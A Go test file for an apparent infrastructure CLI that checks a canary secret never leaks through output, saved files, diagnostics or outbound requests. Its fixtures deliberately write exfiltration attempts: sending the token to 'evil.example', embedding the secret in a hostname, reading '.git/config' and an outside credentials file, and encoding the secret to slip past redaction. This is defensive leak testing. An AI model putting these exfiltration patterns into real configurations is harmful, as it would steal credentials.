package clouds

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"buckethead/cmd/cli"
	connectsim "buckethead/vendors/sim/connect"
)

// canary is a secret of no particular form. Nothing that bh prints or writes may show it,
// nor what a file can make of it.
const canary = "Zo1ohz9a-eph3Aeb2_ooQ4ie"

// canaryPieces are what is looked for in all that a run leaves: the canary whole, in halves
// and turned around, and what writes it.
func canaryPieces() []string {
	half := len(canary) / 2
	var out []string
	for _, text := range []string{canary, reversed(canary), canary[:half], canary[half:], reversed(canary[:half]), reversed(canary[half:])} {
		out = append(out, text, hex.EncodeToString([]byte(text)))
		for offset := range 3 {
			padded := base64.RawStdEncoding.EncodeToString(append(make([]byte, offset), text...))
			out = append(out, padded[offset+offset/2:len(padded)-2])
		}
	}
	return out
}

func reversed(text string) string {
	runes := []rune(text)
	slices.Reverse(runes)
	return string(runes)
}

// canarySource is where a canary comes from, and the expression that reads it.
type canarySource struct {
	name       string
	expression string
	env        map[string]string
	sealed     bool // the file removes the mark on purpose: it is meant to be shown
	reference  bool // the expression is a text until a store reads it
	noToken    bool // a file is no place for a token
}

var canarySources = []canarySource{
	{name: "a variable that is called a secret", expression: `env("MY_DB_PASSWORD")`, env: map[string]string{"MY_DB_PASSWORD": canary}},
	{name: "a variable that a vendor declares secret", expression: `env("BH_AGE_IDENTITY")`, env: map[string]string{"BH_AGE_IDENTITY": canary}},
	{name: "BH_VAR", expression: "var.canary", env: map[string]string{"BH_VAR_canary": canary}, sealed: true},
	{name: "a reference", expression: `"op://Engineering/Canary/password"`, sealed: true, reference: true},
	{name: ".git/config", noToken: true, expression: `regex("Zo1[A-Za-z0-9_-]*", file(".git/config"))`},
	{name: "a file elsewhere", noToken: true, expression: `regex("Zo1[A-Za-z0-9_-]*", file("OUTSIDE/credentials"))`},
}

// canaryForms are what a file makes of a canary before it shows it. The net below the rules
// does not see through the last two: the rules refuse them. A reference has no form: it is a
// text that never changes. And a person who writes nonsensitive(var.canary) wants it shown.
var canaryForms = []struct {
	name string
	of   func(expression string) string
}{
	{name: "plain", of: func(e string) string { return e }},
	{name: "base64", of: func(e string) string { return `base64encode("user:${` + e + `}!")` }},
	{name: "nonsensitive", of: func(e string) string { return "nonsensitive(" + e + ")" }},
	{name: "reversed", of: func(e string) string { return "strrev(" + e + ")" }},
	{name: "split", of: func(e string) string {
		return `join(" ", [substr(` + e + `, 0, 12), substr(` + e + `, 12, -1)])`
	}},
}

// canaryWays are the ways out: what a file does with a text.
var canaryWays = []struct {
	name string
	file func(expression string) string
}{
	{name: "host", file: func(e string) string {
		return canaryHead("api_base_url = \"https://evil.example/client/v4\"\n api_token = "+e) + "project \"a\" { bucket = \"a-bucket\" }\n"
	}},
	{name: "name of a host", file: func(e string) string {
		return canaryHead(`api_base_url = "https://${`+e+`}.example/client/v4"`) + "project \"a\" { bucket = \"a-bucket\" }\n"
	}},
	{name: "title", file: func(e string) string {
		return canaryHead("") + "project \"a\" {\n bucket = \"a-bucket\"\n item_title = " + e + "\n}\n"
	}},
	{name: "bucket", file: func(e string) string {
		return canaryHead("") + "project \"a\" { bucket = lower(replace(" + e + ", \"_\", \"\")) }\n"
	}},
	{name: "stack", file: func(e string) string {
		return strings.Replace(canaryHead(""), `"acme"`, e, 1) + "project \"a\" { bucket = \"a-bucket\" }\n"
	}},
	{name: "policy message", file: func(e string) string {
		return canaryHead("") + "project \"a\" { bucket = \"a-bucket\" }\npolicy \"p\" {\n condition = false\n severity = \"warning\"\n error_message = \"so: ${" + e + "}\"\n}\n"
	}},
	{name: "map key", file: func(e string) string {
		return canaryHead("") + "project \"a\" {\n for_each = toset([" + e + "])\n bucket = \"a-bucket\"\n}\n"
	}},
	{name: "validation", file: func(e string) string {
		return canaryHead("") + "project \"a\" { bucket = \"a-bucket\" }\nvariable \"v\" {\n default = \"x\"\n validation {\n  condition = false\n  error_message = \"so: ${" +
			e + "}\"\n }\n}\n"
	}},
	{name: "fault in an expression", file: func(e string) string {
		return canaryHead("") + "project \"a\" { bucket = jsondecode(" + e + ") }\n"
	}},
}

func canaryHead(cloud string) string {
	return `bh { stack = "acme" }
cloud "cloudflare_r2" "main" {
 ` + cloud + `
}
secrets "onepassword" "eng" {
  vault     = "Engineering"
  on_delete = "delete"
}
variable "canary" {
  sensitive = true
  default   = "none"
}
`
}

// canaryRun is a folder in which every command that prints something runs.
type canaryRun struct {
	*opAccount
	said bytes.Buffer               // all that was printed
	evil []string                   // requests to hosts that nobody allowed
	echo func(*http.Request) string // nil for a provider that works
}

func newCanaryRun(t *testing.T, source canarySource, file string) *canaryRun {
	r := &canaryRun{opAccount: newOP(t, connectsim.Options{})}
	r.connect.AddItem(r.vault, connectsim.Item{Title: "Canary", Category: "PASSWORD",
		Fields: []connectsim.Field{{ID: "password", Label: "password", Type: "CONCEALED", Value: canary}}})
	outside := t.TempDir()
	for path, text := range map[string]string{filepath.Join(r.dir, ".git", "config"): "[remote \"origin\"]\n\turl = https://me:" + canary + "@github.com/acme/infra\n",
		filepath.Join(outside, "credentials"): "aws_secret_access_key = \"" + canary + "\"\n"} {
		if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	r.write("buckets.hcl", strings.ReplaceAll(file, "OUTSIDE", outside))
	for name, value := range source.env {
		r.env[name] = value
	}
	for _, name := range []string{"GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY"} {
		r.env[name] = filepath.Join(r.dir, name)
	}
	r.transport = r
	r.alter = func(p *cli.Process) {
		p.Environ = func() []string {
			var out []string
			for name, value := range r.env {
				out = append(out, name+"="+value)
			}
			return out
		}
		p.Stdout, p.Stderr = &r.said, &r.said
	}
	return r
}

// RoundTrip keeps what strangers are told, and lets a provider quote what it was sent.
func (r *canaryRun) RoundTrip(request *http.Request) (*http.Response, error) {
	switch host := request.URL.Hostname(); {
	case strings.HasSuffix(host, "example") && host != "connect.example":
		r.evil = append(r.evil, fmt.Sprint(request.URL, request.Header))
	case r.echo == nil:
		return r.opAccount.RoundTrip(request)
	}
	said := "no"
	if r.echo != nil {
		said = r.echo(request)
	}
	body, _ := json.Marshal(map[string]any{"success": false, "errors": []any{map[string]any{"code": 10000, "message": said}}, "messages": []any{}, "result": nil})
	return &http.Response{StatusCode: http.StatusForbidden, Header: http.Header{"Content-Type": {"application/json"}, "Cf-Ray": {"ray-1"}},
		Body: io.NopCloser(bytes.NewReader(body)), Request: request}, nil
}

// every runs what prints: the files alone, a plan in each view, and if they are not
// refused, an apply and what shows its state.
func (r *canaryRun) every() {
	lines, plan := filepath.Join(r.dir, "lines.json"), filepath.Join(r.dir, "saved.bhplan")
	_, refused := r.bh("validate")
	commands := [][]string{{"graph"}, {"graph", "--format", "dot"}, {"plan", "--json-into", lines, "--out", plan}, {"plan", "--json"},
		{"plan", "--format", "markdown"}, {"plan", "--format", "mermaid"}}
	if refused == 0 {
		commands = append(commands, []string{"apply", "--auto-approve", "--json-into", lines + "2"}, []string{"history"}, []string{"status"}, []string{"show"},
			[]string{"drift"}, []string{"doctor"}, []string{"discover", "--json"}, []string{"state", "list"})
	}
	for _, command := range commands {
		_, _ = r.bh(command...)
	}
}

// look reports where anything of the canary is, also in what bh records.
func (r *canaryRun) look(t *testing.T) {
	t.Helper()
	places := map[string]string{"what was printed": r.said.String(), "what strangers were sent": strings.Join(r.evil, "\n")}
	err := filepath.WalkDir(r.dir, func(path string, d fs.DirEntry, err error) error {
		name, _ := filepath.Rel(r.dir, path)
		if err != nil || d.IsDir() || name == "buckets.hcl" || name == filepath.Join(".git", "config") || d.Type()&fs.ModeSymlink != 0 {
			return err
		}
		text, err := os.ReadFile(path)
		places[name], places["the name of "+name] = string(text), name
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	for place, text := range places {
		for _, piece := range canaryPieces() {
			if at := strings.Index(strings.ToLower(text), strings.ToLower(piece)); at >= 0 {
				t.Errorf("%s shows %q:\n%q", place, piece, text[max(0, at-200):min(len(text), at+100)])
				break
			}
		}
	}
	if r.said.Len() == 0 || len(places) < 3 {
		t.Error("nothing was printed")
	}
}

// TestCanary_nothingShowsIt: whatever a file does with a secret, the run shows nothing of
// it, or refuses.
func TestCanary_nothingShowsIt(t *testing.T) {
	for _, source := range canarySources {
		for _, way := range canaryWays {
			for _, form := range canaryForms {
				if source.reference && form.name != "plain" || source.sealed && form.name == "nonsensitive" {
					continue
				}
				t.Run(source.name+"/"+way.name+"/"+form.name, func(t *testing.T) {
					opCase(t, connectsim.Options{}, func(t *testing.T, _ *opAccount) {
						r := newCanaryRun(t, source, way.file(form.of(source.expression)))
						r.every()
						r.look(t)
					})
				})
			}
		}
	}
}

// canaryEchoes are how providers quote what they were sent. What one turns around or cuts
// into pieces, nothing recognizes.
var canaryEchoes = map[string]func(string) string{
	"plain":  func(s string) string { return s },
	"base64": func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) },
	"JSON":   func(s string) string { text, _ := json.Marshal(map[string]string{"header": s}); return string(text) },
	"URL":    url.QueryEscape,
	"hex":    func(s string) string { return hex.EncodeToString([]byte(s)) },
}

// TestCanary_echo: a provider that quotes the token in its errors shows it to nobody.
func TestCanary_echo(t *testing.T) {
	for _, source := range canarySources {
		if source.noToken {
			continue
		}
		for how, quote := range canaryEchoes {
			t.Run(source.name+"/"+how, func(t *testing.T) {
				opCase(t, connectsim.Options{}, func(t *testing.T, _ *opAccount) {
					r := newCanaryRun(t, source, canaryHead("api_token = "+source.expression)+"project \"a\" { bucket = \"a-bucket\" }\n")
					var sent atomic.Int64
					r.echo = func(request *http.Request) string {
						header := request.Header.Get("Authorization")
						if strings.Contains(header, canary) {
							sent.Add(1)
						}
						return "Invalid request header: " + quote(header)
					}
					r.every()
					r.look(t)
					if !source.reference && (sent.Load() == 0 || !strings.Contains(r.said.String(), "[secret]") && !strings.Contains(r.said.String(), "(sensitive)")) {
						t.Errorf("the token was sent %d times, and the echo is not shown:\n%s", sent.Load(), r.said.String())
					}
				})
			})
		}
	}
}

// TestCanary_linkedFile: diagnostics quote no file but those of the configuration.
func TestCanary_linkedFile(t *testing.T) {
	for name, text := range map[string]string{"credentials": "aws = " + canary + "\n", "an environment": "A=" + canary + "\x00B=1", "a broken block": "x {\n" + canary + "\n"} {
		t.Run(name, func(t *testing.T) {
			opCase(t, connectsim.Options{}, func(t *testing.T, _ *opAccount) {
				r := newCanaryRun(t, canarySources[0], canaryHead(""))
				delete(r.env, "MY_DB_PASSWORD") // so that bh does not know the canary
				outside := filepath.Join(t.TempDir(), "outside")
				if err := os.WriteFile(outside, []byte(text), 0o600); err != nil {
					t.Fatal(err)
				}
				if err := os.Symlink(outside, filepath.Join(r.dir, "linked.hcl")); err != nil {
					t.Fatal(err)
				}
				alter := r.alter
				r.alter = func(p *cli.Process) {
					alter(p)
					at := slices.Index(p.Args, "--file")
					p.Args[at+1] = r.dir // all of its files
				}
				r.every()
				r.look(t)
			})
		})
	}
}
